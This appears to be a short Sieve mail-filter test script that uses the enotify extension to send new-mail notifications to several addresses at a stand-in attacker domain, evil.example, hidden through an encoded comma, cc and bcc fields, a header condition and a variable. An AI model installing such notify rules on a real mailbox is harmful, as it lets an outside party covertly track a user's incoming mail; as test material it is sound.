require ["enotify", "variables"];
notify :importance "1" :message "new mail" "mailto:spy@evil.example%2Ctwo@evil.example?cc=three@evil.example&subject=hello%20you&bcc=four%40evil.example";
if header :is "subject" "x" { notify "mailto:five@evil.example"; }
set "m" "mailto:six@evil.example";
notify "${m}";
